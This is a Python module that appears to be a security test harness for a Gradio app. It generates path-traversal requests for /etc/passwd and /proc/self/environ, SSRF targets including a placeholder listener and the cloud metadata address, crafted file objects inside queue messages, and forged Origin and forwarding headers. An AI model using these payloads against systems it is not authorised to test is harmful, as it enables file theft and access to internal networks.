"""Requests that try to read a file of this machine, or to make the server ask another address."""

from __future__ import annotations

import json
from collections.abc import Iterator
from dataclasses import dataclass, field
from itertools import product


@dataclass(frozen=True)
class Attack:
    """One request, as it goes over the wire.

    Attributes:
        method: GET, POST, …
        target: The request's target, sent as it stands; {listener} is replaced.
        body: Its body.
        headers: Headers beside Host and Content-Length.
    """

    method: str
    target: str
    body: bytes = b""
    headers: tuple[str, ...] = field(default=())

    @property
    def is_plain_reading(self) -> bool:
        """Whether it asks for what everyone may read, whatever its headers say."""
        return self.method == "GET" and self.target in ("/", "/config")

    def __str__(self) -> str:
        return f"{self.method} {self.target} {self.body[:60].decode('latin-1')} {' '.join(self.headers)}"


PASSWD = (
    "/etc/passwd",
    "%2Fetc%2Fpasswd",
    "%252Fetc%252Fpasswd",
    "../../../../../../etc/passwd",
    "..%2F..%2F..%2F..%2Fetc%2Fpasswd",
    "..%252F..%252F..%252Fetc%252Fpasswd",
    "....//....//....//etc/passwd",
    "..\\..\\..\\..\\etc\\passwd",
    "..%5C..%5C..%5Cetc%5Cpasswd",
    "%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
    "/etc/passwd%00.css",
    "/etc/./passwd.",
    "/proc/self/environ",
    "file:///etc/passwd",
)
ADDRESSES = (
    "http://{listener}/x",
    "https://{listener}/x",
    "HTTP://{listener}/x",
    "http:%2F%2F{listener}%2Fx",
    "http%3A//{listener}/x",
    "http:/{listener}/x",
    "//{listener}/x",
    "ftp://{listener}/x",
    "gopher://{listener}/_x",
    "data:text/html,<script>window.hacked=1</script>",
    "http://[::1]:{port}/x",
    "http://2130706433:{port}/x",
    "http://0x7f000001:{port}/x",
    "http://0177.0.0.1:{port}/x",
    "http://127.1:{port}/x",
    "http://localhost.:{port}/x",
    "http://169.254.169.254/latest/meta-data/",
    "http://user@{listener}/x",
)
FILE_ROUTES = ("/gradio_api/file=", "/gradio_api/file/", "/file=")
ADDRESS_ROUTES = ("/gradio_api/file=", "/gradio_api/proxy=")
STATIC = ("/reform/", "/assets/", "/svelte/", "/static/")
CASES = ("/Gradio_Api/File=/etc/passwd", "/GRADIO_API/FILE=/etc/passwd", "/gradio_api//file=/etc/passwd")
OTHER = (
    "/gradio_api/stream/x/1/2/playlist-file?path=/etc/passwd",
    "/gradio_api/stream/x/../../../etc/1.ts",
    "/gradio_api/custom_component/../../../client/x/etc/passwd",
    "/gradio_api/upload_progress?upload_id=../../etc/passwd",
    "/gradio_api/openapi.json",
    "/gradio_api/token",
    "/gradio_api/dev/reload",
    "/gradio_api/vibe-code",
    "/gradio_api/runs",
    "/gradio_api/run-history/records",
    "/gradio_api/deep_link?session_hash=x",
    "/gradio_api/call/respond/../../etc/passwd",
    "/?deep_link=../../../../etc/passwd",
    "/mandater?deep_link=%2e%2e/%2e%2e/etc",
    "/config?deep_link=/etc/passwd",
    "/theme.css/../../etc/passwd",
    "/theme.css%2f..%2f..%2fetc%2fpasswd",
    "/monitoring",
    "/monitoring/summary",
    "/login",
    "/pwa_icon/../../etc/passwd",
    "/docs",
    "/openapi.json",
    "http://{listener}/x",
    "http://{listener}/gradio_api/file=/etc/passwd",
    "//{listener}/x",
    "*",
)
FILES: tuple[object, ...] = (
    {"path": "/etc/passwd", "meta": {"_type": "gradio.FileData"}},
    {"path": "http://{listener}/x", "meta": {"_type": "gradio.FileData"}},
    {"url": "http://{listener}/x", "meta": {"_type": "gradio.FileData"}},
    {"path": "x", "url": "http://169.254.169.254/", "is_stream": True, "meta": {"_type": "gradio.FileData"}},
    {"video": {"path": "/etc/passwd", "meta": {"_type": "gradio.FileData"}}},
    {"files": [{"path": "/etc/passwd"}], "text": "Hvad?"},
    [["/etc/passwd"]],
)
POSTED = (
    "/gradio_api/upload",
    "/gradio_api/component_server",
    "/gradio_api/component_server/",
    "/gradio_api/call/respond",
    "/gradio_api/call/v2/respond",
    "/gradio_api/api/respond",
    "/gradio_api/api/predict",
    "/gradio_api/run/respond",
    "/gradio_api/run/../upload",
    "/gradio_api/stream/x",
    "/gradio_api/stream/x/close",
    "/gradio_api/process_recording",
    "/gradio_api/vibe-edit",
    "/gradio_api/vibe-code",
    "/gradio_api/run-history/connect",
    "/gradio_api/profiling/clear",
    "/login",
)
JSON = ("Content-Type: application/json",)


def attacks() -> list[Attack]:
    """All of them, each different."""
    found = [Attack("GET", route + path) for route, path in product(FILE_ROUTES, PASSWD)]
    found += [Attack("GET", route + address) for route, address in product(ADDRESS_ROUTES, ADDRESSES)]
    found += [Attack("GET", route + path) for route, path in product(STATIC, PASSWD[3:12])]
    found += [Attack("GET", target) for target in (*CASES, *OTHER)]
    found += [*_messages(), *_strange()]
    return list(dict.fromkeys(found))


def _messages() -> Iterator[Attack]:
    """Objects that stand for files, in every place of a message."""
    for file in FILES:
        for body in (
            {"data": [file, None], "fn_index": 0, "session_hash": "angreb"},
            {"data": ["Hvad?", file], "fn_index": 0, "session_hash": "angreb"},
            {"data": [], "event_data": {"value": file}, "fn_index": 0, "session_hash": "angreb"},
            {"data": ["Hvad?", None], "fn_index": 0, "session_hash": file},
        ):
            yield Attack("POST", "/gradio_api/queue/join", json.dumps(body).encode(), JSON)
    for extra in ({"batched": True}, {"simple_format": True}, {"oauth_token": "x"}, {"api_name": "x"}):
        body = {"data": ["Hvad?", None], "fn_index": 0, "session_hash": "angreb", **extra}
        yield Attack("POST", "/gradio_api/queue/join", json.dumps(body).encode(), JSON)


def _strange() -> Iterator[Attack]:
    """Routes that are not offered, methods, hosts and headers that are not this page's."""
    for target in POSTED:
        yield Attack("POST", target, json.dumps({"data": [FILES[0]], "fn_index": 0}).encode(), JSON)
    for method in ("PUT", "DELETE", "PATCH", "TRACE", "OPTIONS", "CONNECT", "PROPFIND"):
        for target in ("/", "/gradio_api/queue/join", "/reform/page.css"):
            yield Attack(method, target, headers=("X-Secret: hemmelig",))
    for target in ("/gradio_api/queue/join", "/queue/join", "/"):
        upgrade = ("Connection: Upgrade", "Upgrade: websocket", "Sec-WebSocket-Version: 13")
        yield Attack("GET", target, headers=(*upgrade, "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ=="))
    for origin in ("https://ond.example", "null", "http://localhost.ond.example", "http://["):
        body = json.dumps({"data": ["Hvad?", None], "fn_index": 0, "session_hash": "angreb"}).encode()
        yield Attack("POST", "/gradio_api/queue/join", body, (*JSON, f"Origin: {origin}"))
    for header in ("X-Forwarded-Host: {listener}", "X-Gradio-Server: http://{listener}", "Forwarded: host=o"):
        yield Attack("GET", "/config", headers=(header,))
        yield Attack("GET", "/", headers=(header,))
